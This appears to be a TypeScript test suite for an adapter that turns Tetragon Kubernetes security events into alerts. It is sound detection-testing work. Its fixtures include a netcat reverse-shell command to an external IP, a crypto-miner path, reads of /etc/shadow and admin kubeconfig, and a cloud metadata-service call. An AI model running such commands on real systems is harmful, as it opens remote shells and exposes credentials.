import { array, assert, constantFrom, dictionary, jsonValue, oneof, property } from 'fast-check'
import { describe, expect, it } from 'vitest'
import { draftAlert } from '@/lib/detect/draft-alert'
import { conformsToAdapter } from '@/lib/ingest/conformance'
import { eventId } from '@/lib/store/identity'
import { tetragonAdapter } from '.'
import { execEvent, kprobeEvent } from './sample'

const context = { collectedAt: '2026-03-01T12:00:00.000Z', collector: 'tetragon' }
const lines = (...events: unknown[]) => events.map((event) => JSON.stringify(event)).join('\n')

conformsToAdapter(
  tetragonAdapter,
  [
    { name: 'a process in a cluster', documents: [execEvent()] },
    { name: 'one on a host', documents: [execEvent()], context: { cluster: '' } },
    { name: 'a call under a policy', documents: [kprobeEvent({ message: 'somebody wrote to a file of settings' })] },
    {
      name: 'JSON lines with text between',
      text: `${lines(execEvent())}\ntime="x" level=info msg=started\n${lines(kprobeEvent())}`,
    },
    {
      name: 'dropped events',
      documents: [
        {
          rate_limit_info: { number_of_dropped_process_events: '12' },
          node_name: 'node-1',
          time: '2026-02-28T10:00:00Z',
        },
      ],
    },
  ],
  [
    {
      name: 'a process without a program',
      documents: [{ process_exec: { process: { pid: 1 } }, node_name: 'n', time: '2026-02-28T10:00:00Z' }],
    },
    { name: 'no time at all', documents: [{ process_exec: { process: { binary: '/bin/x' } }, node_name: 'n' }] },
    {
      name: 'neither node nor cluster',
      documents: [{ ...execEvent(), node_name: undefined }],
      context: { cluster: '' },
    },
  ],
)

function read(documents: unknown[], cluster = 'prod') {
  const result = tetragonAdapter.read(documents, { ...context, cluster })
  if (!result.ok) throw new Error(JSON.stringify(result.problems))
  return result.observation
}
const only = (documents: unknown[], cluster?: string) => {
  const [event] = read(documents, cluster).events
  if (!event) throw new Error('no event')
  return event
}
const alertOf = (document: unknown) => draftAlert('tetragon', only([document]))

describe('place', () => {
  const inPod = (pod: Record<string, unknown>) => {
    const { process_exec, ...whole } = execEvent()
    const container = process_exec.process.pod.container
    return { process_exec: { process: { ...process_exec.process, pod: { container, ...pod } } }, ...whole }
  }
  it.each([
    [{ namespace: 'shop', name: 'checkout-6d88f6dcdd-k6bc5' }, 'apps/Deployment/shop/checkout'],
    [{ namespace: 'shop', name: 'db-0', workload: 'db', workload_kind: 'StatefulSet' }, 'apps/StatefulSet/shop/db'],
    [
      { namespace: 'shop', name: 'agent-x7z2k', workload: 'agent', workload_kind: 'DaemonSet' },
      'apps/DaemonSet/shop/agent',
    ],
    [
      { namespace: 'shop', name: 'backup-29567890-x7z2k', workload: 'backup', workload_kind: 'CronJob' },
      'batch/CronJob/shop/backup',
    ],
    [{ namespace: 'shop', name: 'debug', workload: 'debug', workload_kind: 'Pod' }, 'core/Pod/shop/debug'],
    [
      { namespace: 'shop', name: 'web-6d88f6dcdd-k6bc5', workload: 'web', workload_kind: 'Rollout' },
      'apps/Deployment/shop/web',
    ],
    [{ namespace: 'a/b', name: 'x' }, 'Node/node-1'],
  ])('of %j', (pod, key) => expect(only([inPod(pod)]).asset).toBe(`k8s/prod/${key}`))

  it('is the event’s own cluster before the sender’s, the node without a pod, the host without a cluster', () => {
    expect(only([execEvent(undefined, { cluster_name: 'edge' })]).cluster).toBe('k8s/edge')
    const bare = {
      process_exec: { process: { binary: '/bin/ls', pid: 1 } },
      node_name: 'node-9',
      time: '2026-02-28T10:00:00Z',
    }
    expect(only([bare]).asset).toBe('k8s/prod/Node/node-9')
    expect(only([bare], '').asset).toBe('docker/node-9')
    expect(only([bare]).process?.inContainer).toBe(false)
  })

  it('names pod, container, image by digest, user and process', () => {
    expect(only([execEvent()]).entities.map(({ kind, name, key }) => [kind, name, key])).toEqual([
      ['cluster', 'prod', 'k8s/prod'],
      ['namespace', 'shop', 'k8s/prod/Namespace/shop'],
      ['workload', 'checkout', 'k8s/prod/apps/Deployment/shop/checkout'],
      ['host', 'node-1', undefined],
      ['pod', 'checkout-6d88f6dcdd-k6bc5', undefined],
      ['container', 'web', undefined],
      ['image', 'ghcr.io/acme/shop:1.4', `image/ghcr.io/acme/shop@sha256:${'ab'.repeat(32)}`],
      ['user', 'root', undefined],
      ['process', 'curl', undefined],
    ])
  })
})

describe('what raises an alert', () => {
  it('is not a process that does nothing special, nor its end', () => {
    expect(alertOf(execEvent())).toBeNull()
    const { process_exec, ...whole } = execEvent('/tmp/xmrig')
    expect(alertOf({ process_exit: process_exec, ...whole })).toBeNull()
  })

  it('is what our detections recognise, under the type that Falco raises too', () => {
    const alert = alertOf(execEvent('/usr/bin/nc -e /bin/sh 203.0.113.9 4444'))
    expect(alert).toMatchObject({
      type: 'K8S.NODE_ReverseShell',
      source: 'tetragon',
      entityKey: 'k8s/prod/apps/Deployment/shop/checkout|container/web',
    })
    expect(alert?.remediation.join('\n')).toContain('kubectl -n shop')
  })

  it('is a call of a tracing policy, under its name, with what was done to it', () => {
    expect(alertOf(kprobeEvent())).toMatchObject({
      type: 'Tetragon_FileMonitoring',
      severity: 'low',
      title: 'Tracing policy file-monitoring',
    })
    const killed = kprobeEvent({
      action: 'KPROBE_ACTION_SIGKILL',
      message: 'no editors here',
      tags: ['mitre_persistence', 'T1098'],
    })
    expect(only([killed])).toMatchObject({
      rule: 'file-monitoring',
      priority: 'warning',
      tags: ['mitre_persistence', 'T1098', 'blocked'],
    })
    expect(only([killed]).message).toBe(
      'no editors here: security_file_permission by /usr/bin/vi /etc/hosts: /etc/hosts (blocked: the process was killed)',
    )
    expect(only([killed]).fields).toMatchObject({ blocked: 'the process was killed', action: 'KPROBE_ACTION_SIGKILL' })
    expect(alertOf(killed)).toMatchObject({ severity: 'medium', tactics: ['Persistence'], techniques: ['T1098'] })
    expect(alertOf(kprobeEvent({ return_action: 'KPROBE_ACTION_OVERRIDE' }))?.description).toContain(
      'the call was refused',
    )
    expect(alertOf(kprobeEvent({ tags: ['severity.high'] }))?.severity).toBe('high')
    expect(alertOf(kprobeEvent({ policy_name: '' }))).toBeNull()
  })

  it('is the file or address of a call where we know it, whatever the policy is called', () => {
    const file = (path: string) => kprobeEvent({ args: [{ file_arg: { path } }] })
    expect(alertOf(file('/etc/shadow'))?.type).toBe('K8S.NODE_SuspectPasswordFileAccess')
    expect(alertOf(file('etc/kubernetes/admin.conf'))?.type).toBe('K8S.NODE_KubeConfigAccess')
    const connect = kprobeEvent({
      function_name: 'tcp_connect',
      policy_name: 'connections',
      args: [{ sock_arg: { family: 'AF_INET', saddr: '10.0.0.3', daddr: '169.254.169.254', dport: 80 } }],
    })
    expect(alertOf(connect)?.type).toBe('K8S.NODE_ImdsCall')
    expect(only([connect]).entities.at(-1)).toEqual({ kind: 'ip', name: '169.254.169.254' })
  })

  it.each(['process_tracepoint', 'process_lsm', 'process_uprobe', 'process_usdt'])('is a %s with a policy', (name) => {
    const { process_kprobe, ...whole } = kprobeEvent()
    expect(alertOf({ [name]: process_kprobe, ...whole })?.type).toBe('Tetragon_FileMonitoring')
  })

  it('is lost sight, quietly', () => {
    expect(
      alertOf({
        rate_limit_info: { number_of_dropped_process_events: '12' },
        node_name: 'node-1',
        time: '2026-02-28T10:00:00Z',
      }),
    ).toMatchObject({ type: 'Tetragon_DroppedEvents', severity: 'informational' })
  })
})

describe('an event', () => {
  const ids = (...documents: unknown[]) =>
    read(documents).events.map(({ identity }) => eventId('e', 'tetragon', identity))

  it('is the same when it comes again, in whatever shell, and another a nanosecond later', () => {
    const [alone] = ids(execEvent())
    expect(ids([{ date: 1, log: JSON.stringify(execEvent()) }])).toEqual([alone])
    expect(ids({ message: JSON.stringify(execEvent()), file: '/var/run/cilium/tetragon/tetragon.log' })).toEqual([
      alone,
    ])
    expect(ids(execEvent(undefined, { time: '2026-02-28T10:00:00.000000002Z' }))).not.toEqual([alone])
    expect(new Set(ids(kprobeEvent(), kprobeEvent({ policy_name: 'other' }), execEvent())).size).toBe(3)
  })

  it('keeps no secret of a command line and no bytes of a file', () => {
    const { events } = read([
      execEvent('/usr/bin/mysql -psecretpass shop'),
      kprobeEvent({
        args: [{ bytes_arg: 'c2VjcmV0' }, { truncated_bytes_arg: { orig_size: '9', bytes_arg: 'c2VjcmV0' } }],
      }),
    ])
    expect(JSON.stringify(events)).not.toMatch(/secretpass|c2VjcmV0/)
  })

  it('that cannot be read costs itself alone, and says where it stood', () => {
    const { events, rejected } = read([[execEvent(), { process_exec: { process: {} } }, 'text', { process_exec: 1 }]])
    expect(events).toHaveLength(1)
    expect(rejected.map(({ path }) => path)).toEqual(['$[1].process_exec.process.binary', '$[2]', '$[3]'])
  })

  it('stands in time order', () => {
    const later = execEvent('/bin/b', { time: '2026-02-28T10:00:00.000000009Z' })
    expect(read([later, execEvent('/bin/a')]).events.map(({ process }) => process?.name)).toEqual(['a', 'b'])
  })

  it('never throws, and what is read stands on an asset that is listed', () => {
    const event = dictionary(
      constantFrom('process_exec', 'process_kprobe', 'node_name', 'time', 'cluster_name'),
      oneof(jsonValue(), constantFrom({ process: { binary: '/x' } }, '2026-01-01T00:00:00Z', 'n')),
    )
    assert(
      property(array(oneof(event, jsonValue()), { maxLength: 4 }), (documents) => {
        const result = tetragonAdapter.read(documents, context)
        if (!result.ok) return
        const keys = new Set(result.observation.assets.map(({ key }) => key))
        for (const { asset } of result.observation.events) expect(keys).toContain(asset)
      }),
    )
  })
})
